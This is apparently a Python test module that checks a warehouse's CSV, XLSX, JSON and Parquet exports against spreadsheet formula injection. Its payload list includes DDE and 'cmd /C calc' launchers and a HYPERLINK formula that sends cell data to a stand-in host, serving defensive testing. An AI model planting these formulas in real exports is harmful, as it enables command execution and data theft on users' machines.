"""A9: text that a spreadsheet would run, through every export and back by our own importer."""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pyarrow.parquet as pq
import python_calamine as calamine

from connectors.base import Context, ReadRequest
from connectors.files import FilesConnector, FilesSettings
from tests.attacks.attempt import Attempt, Task
from warehouse import export
from warehouse.reader import run_query

ID, TITLE = "A9", "formulas in exports"
FIRST = "=+-@\t\r\n\0＝＋－＠"
BLANKS = (" ", "\u00a0", "\u3000", "\ufeff", "\u200b", "'", '"', "\t ", " '", '" ')
PAYLOADS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"ok")',
    "SUM(A1:A9)",
    'WEBSERVICE("http://x.example")',
    'DDE("cmd";"/C calc";"x")',
    'IMPORTXML("http://x","//a")',
)


def texts() -> list[str]:
    """Return texts that begin, at once or behind blanks and quotes, like a formula."""
    found = [sign + payload for sign in FIRST for payload in PAYLOADS]
    found += [before + sign + "1+1" for before in BLANKS for sign in FIRST]
    found += [
        "a\n=1+1",
        "a\r\n=1+1",
        "a,=1+1",
        "a;=1+1",
        "a\t=1+1",
        '",=1+1',
        '"\n=1+1',
        "'",
        "''=1",
        "=",
        "+",
        "-",
        "@",
        "|=1",
        "%0A-1+1",
        "=1+1\x00",
        "－1",
        "-1",
        "+86 138",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=\u202e1+1",
        "\x1f=1+1",
        "\x0b=1+1",
        "\x0c=1+1",
        "\x85=1+1",
        "\u2028=1+1",
        "﹦1+1",
        "⁺1",
        "₌1",
    ]
    return list(dict.fromkeys(found))


def attempts(task: Task) -> Iterator[Attempt]:
    """Export all texts as values and as names of columns; read back what a program would see."""
    folder = task.inner("out")
    database = folder / "some.duckdb"
    wanted = texts()
    with duckdb.connect(str(database)) as con:
        con.execute(
            "create table t (n integer, x varchar, m decimal(9, 2), l varchar[],"
            " s struct(a varchar))"
        )
        con.executemany(
            "insert into t values (?, ?, -1.5, [?], {'a': ?})",
            [(n, text, text, text) for n, text in enumerate(wanted)],
        )
    sql = "select n, x, m, l, s from t order by n"
    for kind in ("csv", "xlsx", "json", "parquet"):
        getattr(export, f"write_{kind}")(run_query(database, sql), folder / f"a.{kind}")
    with (folder / "a.csv").open(encoding="utf-8-sig", newline="") as file:
        cells = {int(row[0]): row[1:] for row in list(csv.reader(file))[1:]}
    seen = _workbook(folder / "a.xlsx")
    plain = {row["n"]: row["x"] for row in json.loads((folder / "a.json").read_text("utf-8"))}
    stored = {row["n"]: row["x"] for row in pq.read_table(folder / "a.parquet").to_pylist()}
    for n, text in enumerate(wanted):
        row = cells[n]
        run = [value for value in (row[0], row[2], row[3]) if is_formula(value)]
        ok = not run and row[1] == "-1.50"
        yield Attempt(f"A9.c{n}", f"csv {text!r}", "handled" if ok else "succeeded", repr(row[:2]))
        value, formula = seen[n]
        same = _escaped(value or "") in (text, _writable(text))
        yield Attempt(
            f"A9.x{n}",
            f"xlsx {text!r}",
            "handled" if same and not formula else "succeeded",
            repr(value),
        )
        exact = plain[n] == text and stored[n] == text
        yield Attempt(f"A9.p{n}", f"json and parquet {text!r}", "handled" if exact else "succeeded")
    yield from _names(folder, database, wanted)
    yield from _round_trip(folder, database, wanted)


def is_formula(value: str) -> bool:
    """Say whether a spreadsheet could run a CSV cell: judged wider than any program does."""
    bare = value.lstrip(' \u00a0\u3000\ufeff\u200b"\t\r\n\0\x0b\x0c\x1f\x85\u2028')
    return bare[:1] in tuple("=+-@＝＋－＠") or value[:1] in tuple("\t\r\n\0")


def _writable(text: str) -> str:
    """Return the text as CSV holds it: a zero is no sign there."""
    return text.replace("\0", "\ufffd")


def _escaped(text: str) -> str:
    """Read OOXML's escapes of controls (ECMA-376, 22.9.2.19), which openpyxl leaves standing."""
    return re.sub("_x([0-9A-F]{4})_", lambda hit: chr(int(hit[1], 16)), text)


def _workbook(path: Path) -> dict[int, tuple[Any, bool]]:
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    found = {}
    for row in list(sheet.iter_rows())[1:]:
        found[int(row[0].value)] = (row[1].value, any(c.data_type == "f" for c in row))
    second = calamine.CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    assert len(second) == len(found) + 1, "another reader sees other rows"
    return found


def _names(folder: Path, database: Path, wanted: list[str]) -> Iterator[Attempt]:
    """Use the texts as names of columns."""
    some = [text for text in wanted if "\0" not in text]
    quoted = ", ".join(f'1 as "{t.replace(chr(34), chr(34) * 2)}"' for t in some)
    sql = f"select {quoted}"
    export.write_csv(run_query(database, sql), folder / "n.csv")
    export.write_xlsx(run_query(database, sql), folder / "n.xlsx")
    with (folder / "n.csv").open(encoding="utf-8-sig", newline="") as file:
        heads = next(csv.reader(file))
    sheet = openpyxl.load_workbook(folder / "n.xlsx").active
    assert sheet is not None
    kinds = [cell.data_type for cell in next(iter(sheet.iter_rows()))]
    for n, (text, head, kind) in enumerate(zip(some, heads, kinds, strict=True)):
        ok = not is_formula(head) and kind != "f"
        yield Attempt(f"A9.n{n}", f"heading {text!r}", "handled" if ok else "succeeded", repr(head))


def _round_trip(folder: Path, database: Path, wanted: list[str]) -> Iterator[Attempt]:
    """Read the exports with our own importer: the text must come back."""
    inbox = folder / "inbox"
    inbox.mkdir()
    sql = "select n, 'x' || n as k, x from t order by n"
    export.write_csv(run_query(database, sql), inbox / "a.csv")
    export.write_xlsx(run_query(database, sql), inbox / "a.xlsx")
    for kind in ("csv", "xlsx"):
        settings = {
            "folder": str(inbox),
            "streams": {"s": {"pattern": f"a.{kind}", "key": "n", "trim": "false", "skip": "none"}},
        }
        one = FilesConnector(FilesSettings.model_validate(settings), Context("o"))
        rows = [row for page in one.read(ReadRequest("s")) for row in page.records.to_pylist()]
        back = {int(row["n"]): row["x"] for row in rows}
        for n, text in enumerate(wanted):
            got = back.get(n)
            same = (got or "") in (text, _writable(text))
            yield Attempt(
                f"A9.{kind}{n}",
                f"round trip by {kind} {text!r}",
                "handled" if same else "succeeded",
                repr(got),
            )
